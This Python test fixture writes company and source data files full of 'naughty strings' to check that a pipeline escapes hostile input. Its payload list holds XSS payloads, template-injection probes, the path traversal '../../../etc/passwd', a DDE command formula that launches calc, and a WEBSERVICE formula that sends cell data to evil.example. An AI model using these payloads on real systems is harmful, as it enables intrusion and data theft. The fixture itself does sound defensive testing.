"""Naughty strings, ours and others', and a data folder whose every text is one of them."""

from __future__ import annotations

import json
import os
from collections import defaultdict
from dataclasses import dataclass, field
from itertools import cycle
from pathlib import Path
from typing import TYPE_CHECKING, Any

from schemas.node import hidden

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

CORPORA = Path(os.environ.get("FOOTNOTE_CORPORA") or "nowhere")
DAY = "2026-02-01"
COMPANIES = tuple(f"c{number}" for number in range(6))
SOURCES = tuple(f"s{number}" for number in range(20))
_LONGEST = 2000

# One of each kind: markup, handlers, addresses, Markdown, formulas, templates, words with a meaning
# to some language, and writing that is not Latin. A script that runs leaves its number in `hit`.
OWN = (
    "<script>globalThis.hit=1</script>",
    "<img src=x onerror=globalThis.hit=2>",
    '"><svg onload=globalThis.hit=3>',
    "'><iframe srcdoc='<script>parent.hit=4</script>'>",
    "javascript:globalThis.hit=5//",
    "[link](javascript:globalThis.hit=6)",
    "![pixel](https://evil.example/pixel.png)",
    "<https://evil.example/auto>",
    "> $1.4B",
    "$5M and 10$",
    r"$\frac{1}{2}$",
    "~5300万美元~",
    "# heading",
    "1. one",
    "- item",
    "***bold*** _it_ `code` ~~gone~~",
    ":smile: :material/home: :red[x]",
    "a -> b -- c",
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/"&A1)',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1","=1+1"',
    ";=1+1",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{company} {0.__class__} %s %(x)s %n",
    "datum.value.constructor('globalThis.hit=7')()",
    "</style><style>*{display:none}</style>",
    "</textarea><script>globalThis.hit=8</script>",
    "</title></head><script>globalThis.hit=9</script>",
    "<math><mtext><style><img src=x onerror=globalThis.hit=10>",
    "<a href=javascript:globalThis.hit=11>x</a>",
    "<form action=https://evil.example><input name=a autofocus onfocus=globalThis.hit=12>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video src=https://evil.example/v onerror=globalThis.hit=13>",
    "<!-- ]]> --> <![CDATA[ <?php ?>",
    "&lt;b&gt; &amp; &#60;b&#62; &nbsp; &quot;",
    r"\u003cscript\u003e \x3c \n \0",
    "../../../etc/passwd",
    "__proto__",
    "constructor",
    "[object Object]",
    "undefined",
    "NULL",
    "nan",
    "1e309",
    "0",
    "稀宇科技（MiniMax）＜script＞",
    "مرحبا بالعالم",
    "Z̡͖̜a̸͙l̨g̛o",
    "𝒻𝒶𝓃𝒸𝓎 👩🏽 ﷽",
    "W" * 300,
)


def fits(text: str) -> bool:
    """Whether a data file may hold this as a text."""
    return bool(text.strip()) and len(text) <= _LONGEST and not hidden(text.replace("\n", " "))


def corpora() -> list[str]:
    """Other people's lists, where there are any: what of them a data file may hold."""
    if not CORPORA.is_dir():
        return []
    texts: list[str] = json.loads((CORPORA / "blns" / "blns.json").read_text("utf-8"))
    for name in ("csv-injection-payloads", "xss-payload-list"):
        for path in sorted((CORPORA / name / "Intruder").glob("*.txt")):
            texts += path.read_text("utf-8", "replace").split("\n")
    return [text for text in dict.fromkeys(texts) if fits(text)]


@dataclass
class Dealt:
    """Which text was given to which kind of place; no two are the same."""

    placed: dict[str, list[str]] = field(default_factory=lambda: defaultdict(list))
    deck: Iterator[str] = field(default_factory=lambda: cycle(filter(fits, OWN)))
    number: int = 0

    def text(self, kind: str) -> str:
        """Give the next text; a number behind it makes it one of its own."""
        self.number += 1
        text = f"{next(self.deck)} ·{self.number}·"
        self.placed[kind].append(text)
        return text

    def name(self, kind: str) -> dict[str, str]:
        """Name something in three languages."""
        return {tag: self.text(f"{kind} {tag}") for tag in ("en", "zh-Hans", "zh-Hant")}


def hostile(folder: Path, more: Iterable[str] = ()) -> Dealt:
    """Write a data folder of naughty strings; `more` become names the companies also go by."""
    dealt, others = Dealt(), list(more)
    for number, company in enumerate(COMPANIES):
        _dump(
            folder / "companies" / f"{company}.yaml",
            _company(dealt, number, others[number :: len(COMPANIES)]),
        )
    group = {
        "name": dealt.name("group"),
        "members": ["c0", "c1"],
        "observations": [_observed(dealt, "group", "valuation", ">4bn USD", "2025-12-31", "s0")],
    }
    _dump(folder / "companies" / "c0+c1.yaml", group)
    for number, source in enumerate(SOURCES):
        _dump(folder / "sources" / f"{source}.yaml", _source(dealt, number))
    _dump(folder / "sets.yaml", {f"set-{number}": _set(dealt) for number in range(3)})
    _dump(folder / "companies" / "broken.yaml", _broken(dealt))
    rate = {"base": "TWD", "quote": "USD", "rate": "0.0328", "as_stated": "US$0.0328"}
    rest = {"period": "2025-09-30", "kind": "closing", "source": "s0"}
    about = {"place": dealt.text("rate"), "note": dealt.text("rate")}
    _dump(folder / "rates.yaml", [{**rate, **rest, **about}])
    return dealt


def _company(dealt: Dealt, number: int, aliases: list[str]) -> dict[str, Any]:
    # Two documents each, which do not agree; and one that is long past.
    first, second = SOURCES[number], SOURCES[number + len(COMPANIES)]
    stated = [
        ("cash_reserves", f"{100 + number}m USD", "2025-09-30", first),
        ("cash_reserves", f"~{300 + number}m USD", "2025-09-30", second),
        ("revenue", f"<{50 + number}m USD", "FY2024", first),
        ("revenue", f"{60 + number}m USD", "9M2025", second),
        ("operating_cash_outflow", "90m USD", "9M2025", first),
        ("runway", "50 months", "2025-09-30", second),
        ("overseas_share", ">70%", "9M2025", first),
        ("employee_count", "50 people", "2021-12-31", second),
        ("valuation", "4bn USD", "2025-12-31", first),
        ("valuation", "6bn USD", "2025-12-31", SOURCES[18]),
    ]
    observations = [_observed(dealt, "figure", *each) for each in stated]
    part = _observed(dealt, "part", "revenue", "1m USD", "9M2025", first)
    part["scope"] = {"product": dealt.text("scope")}
    target = _observed(dealt, "target", "revenue", "500m USD", "FY2026", first)
    target["kind"] = "target"
    return {
        "name": dealt.name("name"),
        "aliases": [dealt.text("alias"), dealt.text("alias"), *aliases],
        "founded": {"value": "2020", "source": "s0", "place": dealt.text("founded")},
        **{key: dealt.text("code") for key in ("lei", "hkex", "cik", "wikidata")},
        "observations": [*observations, part, target],
    }


def _observed(
    dealt: Dealt, kind: str, metric: str, value: str, period: str, source: str
) -> dict[str, Any]:
    basis = {"revenue": "gross", "employee_count": "closing"}.get(metric)
    return {
        "metric": metric,
        "value": value,
        "as_stated": value,
        "period": period,
        "period_basis": "inferred",
        "because": dealt.text(f"{kind} because"),
        "source": source,
        "place": dealt.text(f"{kind} place"),
        "note": dealt.text(f"{kind} note"),
        **({"basis": basis} if basis else {}),
    }


def _source(dealt: Dealt, number: int) -> dict[str, Any]:
    source: dict[str, Any] = {
        "kind": ("filing", "company", "press", "aggregator", "post")[number % 5],
        "publisher": dealt.text("publisher"),
        "author": dealt.text("author"),
        "title": dealt.text("title"),
        "language": "en",
        "published": "2025-12-31" if number % 2 else "2026-01-15",
        "published_basis": "inferred",
        "because": dealt.text("published because"),
        "note": dealt.text("source note"),
        "url": f"https://evil.example/{number}/(a)_~$1$;%3Cscript%3E?q=%22&x=%0d%0a#:~:text=",
    }
    if number == len(SOURCES) - 1:  # the last one rewrites
        source["derived_from"] = "s0"
    return source


def _set(dealt: Dealt) -> dict[str, Any]:
    return {
        "name": dealt.name("set"),
        "companies": list(COMPANIES),
        "note": dealt.text("set note"),
        "notes": {company: dealt.text("set notes") for company in COMPANIES},
    }


def _broken(dealt: Dealt) -> dict[str, Any]:
    """What cannot be read, so that a problem has to say it."""
    base = _observed(dealt, "unread", "revenue", "1m USD", "9M2025", "s0")
    wrong = ("metric", "value", "as_stated", "period", "source", "kind", "basis")
    observations = [{**base, key: dealt.text(f"wrong {key}")} for key in wrong]
    return {
        "name": {"en": dealt.text("broken")},
        "country": dealt.text("wrong country"),
        dealt.text("wrong key"): "1",
        "observations": observations,
    }


def _dump(path: Path, told: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(told, ensure_ascii=False, indent=1), encoding="utf-8")
